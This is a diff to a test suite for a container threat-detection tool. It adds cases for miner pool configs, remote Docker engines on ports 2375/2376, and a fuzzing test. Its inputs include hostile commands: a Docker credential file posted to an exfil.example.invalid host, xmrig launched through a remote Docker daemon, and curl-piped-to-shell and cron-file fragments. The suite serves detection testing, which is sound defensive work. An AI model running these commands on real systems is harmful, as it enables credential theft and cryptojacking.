@@ -39,6 +39,11 @@ describe('miner rules', () => {
       .toEqual(['PCL-MIN-007:critical']);
     expect(run({ archiveMembers: [{ path: '/app/config.json', content: '{"pools": [], "port": 3333}' }] })).toEqual([]);
   });
+  it('text rules read echo piped into files and docker -e values, not searches', () => {
+    expect(run(sh(`echo '{"pools":[{"url":"198.51.100.3:3333","user":"x","pass":"x"}]}' | tee /tmp/c.json`))).toEqual(['PCL-MIN-007:critical']);
+    expect(run(sh('docker run -d -e POOL=stratum+tcp://198.51.100.3:3333 alpine /app'))).toEqual(['PCL-MIN-003:critical']);
+    expect(run(sh('ps aux | grep stratum+tcp://; echo supportxmr.com'))).toEqual([]);
+  });
   it('PCL-MIN-008: kernel-thread names in a container', () => {
     expect(run({ processes: [{ pid: 3, cmd: '[kworker/0:2]' }] })).toEqual(['PCL-MIN-008:high']);
     expect(run({ processes: [{ pid: 3, cmd: 'nginx: worker process' }] })).toEqual([]);
@@ -89,6 +94,13 @@ describe('tactic rules', () => {
     expect(run(sh('tor --SocksPort 9050'))).toEqual(['PCL-TTP-010:medium']);
     expect(run(sh('torsocks wget http://198.51.100.1/x'))).toEqual(['PCL-TTP-010:high']);
   });
+  it('PCL-TTP-008: remote engines driven over 2375/2376, local sockets not', () => {
+    expect(run(sh('DOCKER_HOST=tcp://198.51.100.3:2375 docker ps'))).toEqual(['PCL-TTP-008:high']);
+    expect(run(sh('curl -X POST http://198.51.100.3:2376/v1.41/containers/create -d @c.json'))).toEqual(['PCL-TTP-008:high']);
+    expect(run(sh('docker -H unix:///var/run/docker.sock ps; docker run --rm alpine true'))).toEqual([]);
+    expect(run(sh('docker -H tcp://198.51.100.3:2375 run -d alpine sh -c "xmrig -o 198.51.100.4:3333"')))
+      .toEqual(['PCL-MIN-001:critical', 'PCL-MIN-009:high', 'PCL-TTP-008:high']);
+  });
   it('PCL-TTP-009: reading is theft, writing a client config is not', () => {
     expect(run(sh('cp ~/.docker/config.json /tmp/.c && curl -F f=@/tmp/.c http://exfil.example.invalid'))).toEqual(['PCL-TTP-009:high']);
     expect(run(sh('echo "$AUTH" > /root/.docker/config.json'))).toEqual([]);
@@ -96,5 +108,20 @@ describe('tactic rules', () => {
   it('PCL-TTP-011: decoded text that hides a URL but is not run is medium', () => {
     const b = Buffer.from('http://198.51.100.1/cfg').toString('base64');
     expect(run(sh(`echo ${b} | base64 -d > /tmp/u`))).toEqual(['PCL-TTP-011:medium']);
+  });
+});
+
+describe('robustness', () => {
+  it('detect() survives random attacker-shaped input', () => {
+    let seed = 7;
+    const rnd = () => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff);
+    const parts = ['curl ', 'wget -qO- ', 'http://', '198.51.100.', 'stratum+tcp://', ':3333', ' | sh', ' | base64 -d', 'echo ', 'aGk=',
+      'chroot /mnt ', 'sh -c "', '"', "'", '$(', ')', '`', ' > /mnt/etc/cron.d/x', ';', '\n', '-o ', '--donate-level ', '4A', '{"pools":[', '%2', '\\x'];
+    for (let i = 0; i < 300; i++) {
+      let s = '';
+      for (let k = Math.floor(rnd() * 40); k > 0; k--) s += parts[Math.floor(rnd() * parts.length)];
+      const f = detect({ cmd: ['sh', '-c', s], env: [s], binds: ['/:/mnt'], processes: [{ cmd: s }], archiveMembers: [{ path: '/x.sh', content: s }] });
+      for (const x of f) expect(x.evidence.length).toBeLessThanOrEqual(12);
+    }
   });
 });
